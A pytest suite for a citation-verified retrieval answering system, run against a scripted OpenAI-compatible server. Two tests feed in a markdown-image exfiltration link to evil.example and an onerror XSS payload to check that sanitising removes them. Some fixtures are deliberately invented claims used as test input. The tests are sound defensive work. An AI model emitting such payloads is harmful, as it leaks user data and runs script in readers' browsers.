"""Generated answers end to end: the real `openai` client over real HTTP to a scripted
OpenAI-compatible server on 127.0.0.1, verified sentence by sentence."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator, Sequence

import pytest

from rag import Answer, Assistant, Citation, Settings
from rag.answer.chain import AnswerChain, final_answer
from rag.errors import GenerationError
from rag.index.embeddings import MiniLMEmbedder
from tests.conftest import SEED
from tests.openai_stub import ScriptedOpenAI

TRUE = "More than 100,000 Armenians left Nagorno-Karabakh"
INVENTED = "Russia paid $2 billion for the mission"


@pytest.fixture
def server() -> Iterator[ScriptedOpenAI]:
    with ScriptedOpenAI() as stub:
        yield stub


@pytest.fixture
def generative(server: ScriptedOpenAI, tmp_path, embedder: MiniLMEmbedder) -> Assistant:
    settings = Settings(home=tmp_path / "home", llm="openai", openai_base_url=server.base_url,
                        llm_timeout=3.0, llm_retries=1)
    assistant = Assistant(settings=settings, embedder=embedder)
    assistant.ingest(SEED)
    return assistant


def source_number(server: ScriptedOpenAI, request: dict, needle: str) -> int:
    prompt = request["messages"][-1]["content"]
    for number, body in re.findall(r'<source id="(\d+)"[^>]*>(.*?)</source>', prompt, re.S):
        if needle in body:
            return int(number)
    raise AssertionError(f"{needle!r} is in no source")


def assert_exact(assistant: Assistant, answer: Answer) -> None:
    for citation in answer.citations:
        assert assistant.document(citation.doc_id).text[citation.start : citation.end] == \
            citation.quote


def test_invented_sentence_is_removed_and_true_one_cited(generative: Assistant,
                                                         server: ScriptedOpenAI) -> None:
    def reply(request: dict) -> str:
        k = source_number(server, request, "100,000 Armenians")
        return f"{TRUE} [{k}]. {INVENTED} [{k}]."

    server.script(responder=reply)
    answer = generative.ask("Why did the peacekeepers leave?")
    assert answer.mode == "generative"
    assert TRUE in answer.text and "2 billion" not in answer.text
    assert [s.supported for s in answer.sentences] == [True, False]
    assert [s.shown for s in answer.sentences] == [True, False]
    (citation,) = answer.citations
    assert "100,000 Armenians" in citation.quote
    assert citation.quote.startswith("Russian peacekeepers’ continued presence")
    assert_exact(generative, answer)


# What a small local model wrote on the seed set: a true paraphrase, and a reason the
# article never gives (it says Yerevan blamed the peacekeepers, not that they left for it),
# which the rule checker passed at 0.99.
PARAPHRASE = ("After Azerbaijan's one-day military operation last September, more than "
              "100,000 Armenians left Nagorno-Karabakh for Armenia.")
WRONG_CAUSE = ("The peacekeepers left because the Russian peacekeepers failed to defend the "
               "Armenians of Nagorno-Karabakh.")


def test_a_paraphrase_is_kept_and_an_unstated_cause_dropped(generative: Assistant,
                                                             server: ScriptedOpenAI) -> None:
    def reply(request: dict) -> str:
        moved = source_number(server, request, "100,000 Armenians")
        blamed = source_number(server, request, "failing to defend")
        return f"{PARAPHRASE} [{moved}] {WRONG_CAUSE} [{blamed}]"

    server.script(responder=reply)
    answer = generative.ask("Why did the peacekeepers leave?")
    assert answer.mode == "generative"
    assert [s.supported for s in answer.sentences] == [True, False]
    assert "100,000 Armenians left" in answer.text and "failed to defend" not in answer.text
    assert_exact(generative, answer)


def test_keep_unsupported_marks_instead_of_removing(server: ScriptedOpenAI, tmp_path,
                                                    embedder: MiniLMEmbedder) -> None:
    settings = Settings(home=tmp_path / "h", llm="openai", openai_base_url=server.base_url,
                        keep_unsupported=True)
    assistant = Assistant(settings=settings, embedder=embedder)
    assistant.ingest(SEED)
    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}]. "
                                      f"{INVENTED} [1].")
    answer = assistant.ask("Why did the peacekeepers leave?")
    assert "(unsupported) Russia paid $2 billion" in answer.text
    assert [s.shown for s in answer.sentences] == [True, True]


def test_out_of_range_markers_are_dropped(generative: Assistant, server: ScriptedOpenAI) -> None:
    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}][99].")
    answer = generative.ask("Why did the peacekeepers leave?")
    assert answer.mode == "generative"
    assert len(answer.citations) == 1 and "[99]" not in answer.text
    assert_exact(generative, answer)


def test_no_markers_at_all_falls_back(generative: Assistant, server: ScriptedOpenAI) -> None:
    server.script(reply=f"{TRUE}. {INVENTED}.")
    answer = generative.ask("Why did the peacekeepers leave?")
    assert answer.mode == "extractive-fallback"
    assert "supported" in (answer.reason or "")
    assert "2 billion" not in answer.text
    drafted = [s for s in answer.sentences if s.text.startswith((TRUE[:20], INVENTED[:20]))]
    assert len(drafted) == 2 and not any(s.shown for s in drafted)
    assert all(s.shown for s in answer.sentences if s not in drafted)
    assert_exact(generative, answer)


def test_refusal_text_is_a_refusal(generative: Assistant, server: ScriptedOpenAI) -> None:
    server.script(reply="The sources don't say.")
    answer = generative.ask("What did China say about the withdrawal?")
    assert answer.refused and answer.mode == "generative"
    assert answer.citations == [] and answer.passages


def test_a_refusal_that_goes_on_to_cite_is_checked_as_an_answer(
        generative: Assistant, server: ScriptedOpenAI) -> None:
    server.script(responder=lambda r: "The sources don't say who ordered it. "
                                      f"{TRUE} [{source_number(server, r, '100,000')}].")
    answer = generative.ask("Why did the peacekeepers leave?")
    assert not answer.refused and answer.mode == "generative"
    assert TRUE in answer.text and "don't say" not in answer.text
    assert_exact(generative, answer)


def test_cut_stream_is_never_a_complete_answer(generative: Assistant,
                                               server: ScriptedOpenAI) -> None:
    server.script(reply=f"{TRUE} [1]. More words follow here.", cut_stream_after=2)
    events = list(generative.ask_stream("Why did the peacekeepers leave?"))
    deltas = [e for e in events if isinstance(e, str)]
    final = events[-1]
    assert isinstance(final, Answer)
    assert deltas  # the partial text was streamed…
    assert final.mode == "extractive-fallback"  # …but the answer is the verified fallback
    assert "cut" in (final.reason or "") or "ended" in (final.reason or "")


def test_streaming_yields_deltas_then_verified_answer(generative: Assistant,
                                                      server: ScriptedOpenAI) -> None:
    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}].")
    events = list(generative.ask_stream("Why did the peacekeepers leave?"))
    assert isinstance(events[-1], Answer) and events[-1].mode == "generative"
    assert "".join(e for e in events if isinstance(e, str)).startswith("More than")
    # The wait before the first word is measured apart from the whole draft's.
    timings = events[-1].timings
    assert 0 < timings["first_token_ms"] <= timings["generate_ms"] <= timings["answer_ms"]


def test_endpoint_down_falls_back_within_timeout(tmp_path, embedder: MiniLMEmbedder) -> None:
    with ScriptedOpenAI() as stub:
        dead = stub.base_url  # closed when the block ends: nothing listens there any more
    settings = Settings(home=tmp_path / "h", llm="openai", openai_base_url=dead,
                        llm_timeout=2.0, llm_retries=1)
    assistant = Assistant(settings=settings, embedder=embedder)
    assistant.ingest(SEED)
    started = time.perf_counter()
    answer = assistant.ask("Why did the peacekeepers leave?")
    assert time.perf_counter() - started < 5
    assert answer.mode == "extractive-fallback" and answer.reason
    assert "100,000" in answer.text


@pytest.mark.parametrize("behaviour", [{"status": 500}, {"status": 429, "retry_after": 30},
                                       {"delay": 5.0}, {"malformed": True},
                                       # a trickle that would take 60 s; a 5 MB reply
                                       {"reply": "word " * 60, "chunk_interval": 1.0},
                                       {"reply": f"{TRUE} [1]. " * 100_000}])
def test_failures_end_in_extractive_fallback(generative: Assistant, server: ScriptedOpenAI,
                                             behaviour: dict) -> None:
    server.script(**behaviour)
    started = time.perf_counter()
    answer = generative.ask("Why did the peacekeepers leave?")
    assert time.perf_counter() - started < 6  # the 3 s budget, then the fallback
    assert answer.mode == "extractive-fallback" and answer.reason
    assert_exact(generative, answer)


def test_follow_up_is_rewritten_by_the_llm(generative: Assistant, server: ScriptedOpenAI) -> None:
    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}].")
    first = generative.ask("Why did the peacekeepers leave?")
    server.script(reply="Who made the decision on the early withdrawal of Russian peacekeepers?")
    server.script(responder=lambda r: "The leaders of both countries decided "
                                      f"[{source_number(server, r, 'leaders of both')}].")
    answer = generative.chat("and who decided that?", [first])
    assert answer.question.startswith("Who made the decision")
    assert answer.mode == "generative"
    assert any("leaders of both countries" in c.quote for c in answer.citations)


def test_offline_follow_up_rewrite(seed_assistant: Assistant) -> None:
    first = seed_assistant.ask("Why did the peacekeepers leave?")
    answer = seed_assistant.chat("and who decided that?", [first])
    assert not answer.refused
    assert any("leaders of both countries" in c.quote for c in answer.citations)


def test_injected_markdown_and_html_never_reach_the_answer(generative: Assistant,
                                                           server: ScriptedOpenAI) -> None:
    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}]. "
                  "![x](https://evil.example/?q=secret) <img src=x onerror=alert(1)>")
    answer = generative.ask("Why did the peacekeepers leave?")
    assert "evil.example" not in answer.text and "<img" not in answer.text


def test_eval_with_llm_judge_scores_claims(generative: Assistant, server: ScriptedOpenAI,
                                           tmp_path) -> None:
    from rag.eval.runner import run_eval

    def reply(request: dict) -> str:
        prompt = request["messages"][-1]["content"]
        if '"claims"' in prompt:
            return ('{"claims": [{"claim": "a", "supported": true, "reason": "stated"}, '
                    '{"claim": "b", "supported": false, "reason": "absent"}]}')
        return f"{TRUE} [{source_number(server, request, '100,000')}]."

    server.script(responder=reply)
    dataset = tmp_path / "mini.jsonl"
    dataset.write_text('{"id": "m1", "question": "Why did the peacekeepers leave?", '
                       '"answerable": true, "required_facts": ["100,000"], "evidence": []}\n',
                       encoding="utf-8")
    result = run_eval(generative, dataset, tmp_path / "out", None, None, progress=False,
                      llm_judge=True)
    assert result.metrics["llm_faithfulness"] == 0.5


def test_reply_with_nothing_left_after_sanitising_falls_back(generative: Assistant,
                                                             server: ScriptedOpenAI) -> None:
    server.script(reply="![x](https://evil.example/?q=1)")
    answer = generative.ask("Why did the peacekeepers leave?")
    assert answer.mode == "extractive-fallback" and "empty" in (answer.reason or "")
    assert not answer.refused and "100,000" in answer.text



def test_the_python_api_reads_the_same_environment_as_the_cli(
        server: ScriptedOpenAI, tmp_path, embedder: MiniLMEmbedder,
        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("RAG_HOME", str(tmp_path / "from-env"))
    monkeypatch.setenv("RAG_LLM", "openai")
    monkeypatch.setenv("OPENAI_BASE_URL", server.base_url)
    monkeypatch.setenv("RAG_LLM_MODEL", "env-model")
    server.script(responder=lambda r: f"{TRUE} [{source_number(server, r, '100,000')}].")

    assistant = Assistant(embedder=embedder)
    assistant.ingest(SEED)
    answer = assistant.ask("Why did the peacekeepers leave?")

    assert assistant.settings.home == tmp_path / "from-env"
    assert answer.mode == "generative"
    request = server.chat_requests[-1].json
    assert request is not None and request["model"] == "env-model"
    # An explicit argument still wins over the environment.
    assert Assistant(home=tmp_path / "mine", embedder=embedder).settings.home == \
        tmp_path / "mine"


# -- a model whose refusals are not trusted (the local one) -----------------------------


class SmallModel:
    """A scripted generator that, like the packaged 1.5B model, leaves answerability to
    the answerer."""

    name = "small"
    decides_answerability = False

    def __init__(self, reply: str) -> None:
        self.reply = reply
        self.asked = 0

    def complete(self, messages: list[dict]) -> str:
        return "".join(self.stream(messages))

    def stream(self, messages: list[dict]) -> Iterator[str]:
        self.asked += 1
        yield self.reply


def small_chain(assistant: Assistant, reply: str) -> tuple[AnswerChain, SmallModel]:
    model = SmallModel(reply)
    return AnswerChain(assistant.settings, assistant.embedder, assistant.answerer,
                       model), model


def test_a_small_model_is_not_asked_what_the_answerer_refuses(
        seed_assistant: Assistant) -> None:
    question = "What did China say about the withdrawal of Russian peacekeepers?"
    chain, model = small_chain(seed_assistant, "China welcomed the withdrawal. [1]")
    answer = final_answer(chain.stream(question, seed_assistant.retrieve(question)))
    assert answer.refused and answer.mode == "extractive" and answer.reason
    assert model.asked == 0
    assert "China welcomed" not in answer.text


def test_a_small_models_refusal_falls_back_to_the_answerers_quote(
        seed_assistant: Assistant) -> None:
    question = "Why has Yerevan blamed the Russian peacekeepers?"
    passages = seed_assistant.retrieve(question)
    chain, model = small_chain(seed_assistant, "The sources don't say.")
    answer = final_answer(chain.stream(question, passages))
    assert model.asked == 1
    assert not answer.refused and answer.mode == "extractive-fallback"
    assert "no answer" in (answer.reason or "")
    assert "failing to defend" in answer.text
    assert_exact(seed_assistant, answer)


def test_a_small_models_supported_answer_is_kept(seed_assistant: Assistant) -> None:
    question = "Why has Yerevan blamed the Russian peacekeepers?"
    passages = seed_assistant.retrieve(question)
    number = next(i for i, p in enumerate(passages, 1) if "failing to defend" in p.text)
    chain, model = small_chain(
        seed_assistant, "Yerevan blamed the Russian peacekeepers for failing to defend the "
                        f"Armenians of Nagorno-Karabakh. [{number}]")
    answer = final_answer(chain.stream(question, passages))
    assert model.asked == 1
    assert answer.mode == "generative" and not answer.refused
    assert [s.supported for s in answer.sentences] == [True]
    assert_exact(seed_assistant, answer)


def test_a_true_draft_that_no_longer_answers_gives_way_to_the_quote(
        seed_assistant: Assistant) -> None:
    # The 1.5B model's reply on the seed set: a true sentence, about Yerevan, not Baku.
    question = "How has Baku characterized the status of the Russian troops on its soil?"
    passages = seed_assistant.retrieve(question)
    number = next(i for i, p in enumerate(passages, 1) if "Official Yerevan" in p.text)
    chain, model = small_chain(
        seed_assistant, "Official Yerevan has not yet commented on the withdrawal of Russian "
                        "peacekeepers from Nagorno-Karabakh where only about a dozen ethnic "
                        f"Armenians remain [{number}].")
    answer = final_answer(chain.stream(question, passages))
    assert model.asked == 1
    # The draft was true (verified, kept in the record) but is not what is shown.
    assert answer.mode == "extractive-fallback" and not answer.refused
    assert "did not answer the question" in (answer.reason or "")
    draft = [s for s in answer.sentences if "Official Yerevan" in s.text]
    assert draft and draft[0].supported and not draft[0].shown
    assert "Official Yerevan" not in answer.text and "temporary" in answer.text
    assert_exact(seed_assistant, answer)


def test_the_answer_score_prefers_the_answering_text(seed_assistant: Assistant) -> None:
    from rag.answer.selector import AnswerSelector

    question = "Why has Yerevan blamed the Russian peacekeepers?"
    answering, off = AnswerSelector(seed_assistant.embedder).answers(question, [
        "Yerevan blamed the Russian peacekeepers for failing to defend the Armenians.",
        "The joint Russian-Turkish monitoring center was located in Agdam."])
    assert 0.0 <= off < answering <= 1.0


class CheckingModel(SmallModel):
    """A scripted small model that also reads the answerer's quote (`AnswerChecker`)."""

    def __init__(self, reply: str, probability: float | None, threshold: float = 0.5
                 ) -> None:
        super().__init__(reply)
        self.probability, self.check_threshold = probability, threshold
        self.checked: list[tuple[str, list[str]]] = []

    def answer_probability(self, question: str, citations: Sequence[Citation]
                           ) -> float | None:
        self.checked.append((question, [c.quote for c in citations]))
        if self.fails:
            raise GenerationError("the local model timed out after 10 s")
        return self.probability

    fails = False


def checking_chain(assistant: Assistant, model: CheckingModel) -> AnswerChain:
    return AnswerChain(assistant.settings, assistant.embedder, assistant.answerer, model)


def test_a_quote_the_model_reads_as_no_answer_is_refused_without_a_draft(
        seed_assistant: Assistant) -> None:
    question = "Why has Yerevan blamed the Russian peacekeepers?"
    model = CheckingModel("Yerevan blamed them. [1]", probability=0.2)
    answer = final_answer(checking_chain(seed_assistant, model).stream(
        question, seed_assistant.retrieve(question)))
    # The model was shown the answerer's own quote, and its doubt refused the question.
    assert model.checked and model.checked[0][0] == question
    assert any("failing to defend" in quote for quote in model.checked[0][1])
    assert answer.refused and answer.mode == "generative"
    assert "0.20" in (answer.reason or "") and "0.50" in (answer.reason or "")
    assert answer.passages  # the closest passages, as for any refusal
    assert model.asked == 0


@pytest.mark.parametrize("probability", [0.5, 0.9, None])
def test_a_quote_the_model_accepts_or_cannot_judge_goes_on_to_the_draft(
        seed_assistant: Assistant, probability: float | None) -> None:
    question = "Why has Yerevan blamed the Russian peacekeepers?"
    passages = seed_assistant.retrieve(question)
    number = next(i for i, p in enumerate(passages, 1) if "failing to defend" in p.text)
    model = CheckingModel("Yerevan blamed the Russian peacekeepers for failing to defend "
                          f"the Armenians of Nagorno-Karabakh. [{number}]", probability)
    answer = final_answer(checking_chain(seed_assistant, model).stream(question, passages))
    assert len(model.checked) == 1 and model.asked == 1
    assert answer.mode == "generative" and not answer.refused
    assert "check_ms" in answer.timings
    # The check comes before the draft, so a reader waits for it before the first word.
    assert answer.timings["first_token_ms"] >= answer.timings["check_ms"]


def test_a_zero_threshold_turns_the_check_off(seed_assistant: Assistant) -> None:
    question = "Why has Yerevan blamed the Russian peacekeepers?"
    model = CheckingModel("The sources don't say.", probability=0.0, threshold=0.0)
    answer = final_answer(checking_chain(seed_assistant, model).stream(
        question, seed_assistant.retrieve(question)))
    assert model.checked == [] and model.asked == 1
    assert answer.mode == "extractive-fallback"


def test_a_check_that_fails_does_not_refuse(seed_assistant: Assistant) -> None:
    question = "Why has Yerevan blamed the Russian peacekeepers?"
    model = CheckingModel("The sources don't say.", probability=0.0)
    model.fails = True
    answer = final_answer(checking_chain(seed_assistant, model).stream(
        question, seed_assistant.retrieve(question)))
    assert model.checked and model.asked == 1
    assert not answer.refused and answer.mode == "extractive-fallback"
    assert "failing to defend" in answer.text
